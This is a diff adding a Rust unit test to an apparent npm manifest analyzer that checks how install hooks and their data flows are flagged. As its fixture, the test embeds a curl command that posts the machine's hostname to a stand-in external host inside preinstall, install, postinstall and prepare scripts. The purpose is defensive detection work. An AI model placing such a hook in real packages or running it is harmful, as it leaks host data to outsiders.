@@ -123,3 +123,28 @@ pub fn analyze(path: &str, text: &str) -> Manifest {
     }
     Manifest { facts, inline_code }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// npm runs `preinstall`, `install` and `postinstall` when installing from a registry:
+    /// each is install-time code; `prepare` runs only for git and folder installs, so it is
+    /// listed but its data flow is not install-time.
+    #[test]
+    fn every_registry_hook_is_install_time_code_and_prepare_is_listed_only() {
+        let send = "curl -d \\\"$(hostname)\\\" https://c.example.top";
+        for hook in INSTALL_HOOKS {
+            let text = format!(r#"{{"scripts": {{"{hook}": "{send}"}}}}"#);
+            let m = analyze("package/package.json", &text);
+            assert_eq!(m.facts.install_scripts.len(), 1, "{hook}");
+            assert!(m.facts.install_scripts[0].runs_from_registry(), "{hook}");
+            assert_eq!(m.facts.flows.len(), 1, "{hook}: {:#?}", m.facts.flows);
+        }
+        let text = format!(r#"{{"scripts": {{"prepare": "{send}", "test": "{send}"}}}}"#);
+        let m = analyze("package/package.json", &text);
+        assert_eq!(m.facts.install_scripts.len(), 1);
+        assert!(!m.facts.install_scripts[0].runs_from_registry());
+        assert!(m.facts.flows.is_empty(), "{:#?}", m.facts.flows);
+    }
+}
